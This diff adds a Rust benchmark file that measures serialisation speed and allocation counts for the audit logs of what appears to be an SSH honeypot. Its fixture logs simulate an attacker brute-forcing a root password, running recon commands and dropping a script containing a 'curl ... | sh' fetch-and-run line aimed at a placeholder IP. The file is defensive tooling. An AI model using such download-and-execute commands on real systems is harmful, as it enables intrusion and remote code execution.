@@ -0,0 +1,153 @@
+use std::{
+    alloc::{GlobalAlloc, Layout, System},
+    borrow::Cow,
+    sync::atomic::{AtomicUsize, Ordering},
+};
+
+use bytes::Bytes;
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use pisshoff_types::{
+    audit::{
+        AuditLog, AuditLogAction, AuthCheckEvent, ExecCommandEvent, LoginAttemptEvent,
+        TranscriptEvent, WriteFileEvent,
+    },
+    byte_str::ByteStr,
+    encode::AuditEncoder,
+};
+
+/// Counts allocations made by the benchmarks, so a change that adds a copy to serialising a log
+/// shows up even when it doesn't move the timings.
+struct CountingAllocator;
+
+static ALLOCATIONS: AtomicUsize = AtomicUsize::new(0);
+
+unsafe impl GlobalAlloc for CountingAllocator {
+    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
+        System.alloc(layout)
+    }
+
+    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+        System.dealloc(ptr, layout);
+    }
+
+    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
+        System.realloc(ptr, layout, new_size)
+    }
+}
+
+#[global_allocator]
+static ALLOCATOR: CountingAllocator = CountingAllocator;
+
+/// Prints how many allocations a single call to `f` makes, once it's warmed up.
+fn report_allocations<T>(name: &str, mut f: impl FnMut() -> T) {
+    drop(f());
+
+    let before = ALLOCATIONS.load(Ordering::Relaxed);
+    let out = f();
+    let allocations = ALLOCATIONS.load(Ordering::Relaxed) - before;
+    drop(out);
+
+    println!("{name}: {allocations} allocations per log");
+}
+
+/// A client guessing passwords until it's let in.
+fn brute_force() -> AuditLog {
+    let mut log = AuditLog {
+        client_version: Some("SSH-2.0-Go".into()),
+        ..AuditLog::default()
+    };
+
+    for attempt in 1..=5 {
+        log.push_action(AuditLogAction::LoginAttempt(
+            LoginAttemptEvent::UsernamePassword {
+                username: "root".into(),
+                password: format!("password{attempt}").into(),
+            },
+        ));
+        log.push_action(AuditLogAction::AuthCheck(AuthCheckEvent {
+            method: Cow::Borrowed("password"),
+            username: "root".into(),
+            accepted: attempt == 5,
+            attempt,
+            methods_tried: vec![Cow::Borrowed("password")],
+            methods_advertised: vec![Cow::Borrowed("password"), Cow::Borrowed("publickey")],
+            rule: None,
+        }));
+    }
+
+    log
+}
+
+/// A client that logs in, looks around and drops a script.
+fn session() -> AuditLog {
+    let mut log = brute_force();
+
+    for command in [
+        "uname -a",
+        "cat /proc/cpuinfo",
+        "cd /tmp",
+        "chmod +x x.sh",
+        "./x.sh",
+    ] {
+        let command = ByteStr::from_static(command);
+
+        log.push_action(AuditLogAction::ExecCommand(ExecCommandEvent {
+            command: command.clone(),
+            args: Some(command.split(' ').map(|v| command.slice_ref(v)).collect()),
+            interactive: true,
+            pty: true,
+        }));
+        log.push_action(AuditLogAction::Transcript(TranscriptEvent {
+            data: Bytes::from(format!("{command}\r")),
+        }));
+    }
+
+    log.push_action(AuditLogAction::WriteFile(WriteFileEvent {
+        path: "/tmp/x.sh".into(),
+        content: Bytes::from("#!/bin/sh\ncurl http://198.51.100.1/x | sh\n".repeat(32)),
+        size: 1344,
+        sha256: Some("0".repeat(64).into()),
+    }));
+
+    log
+}
+
+fn serialize(c: &mut Criterion) {
+    for (name, log) in [("brute_force", brute_force()), ("session", session())] {
+        let mut group = c.benchmark_group(format!("serialize/{name}"));
+        let len = serde_json::to_vec(&log).unwrap().len() + 1;
+        group.throughput(Throughput::Bytes(len as u64));
+
+        let to_vec = || {
+            let mut out = serde_json::to_vec(&log).unwrap();
+            out.push(b'\n');
+            out
+        };
+        report_allocations(&format!("serialize/{name}/to_vec"), to_vec);
+        group.bench_function("to_vec", |b| b.iter(to_vec));
+
+        let mut encoder = AuditEncoder::default();
+        report_allocations(&format!("serialize/{name}/encoder"), || {
+            encoder.encode(&log).unwrap().len()
+        });
+        group.bench_function("encoder", |b| {
+            b.iter(|| encoder.encode(&log).unwrap().len());
+        });
+
+        // the socket needs a copy of its own, since it buffers logs while it reconnects
+        let mut encoder = AuditEncoder::default();
+        report_allocations(&format!("serialize/{name}/encoder_owned"), || {
+            encoder.encode(&log).unwrap().to_vec()
+        });
+        group.bench_function("encoder_owned", |b| {
+            b.iter(|| encoder.encode(&log).unwrap().to_vec());
+        });
+
+        group.finish();
+    }
+}
+
+criterion_group!(benches, serialize);
+criterion_main!(benches);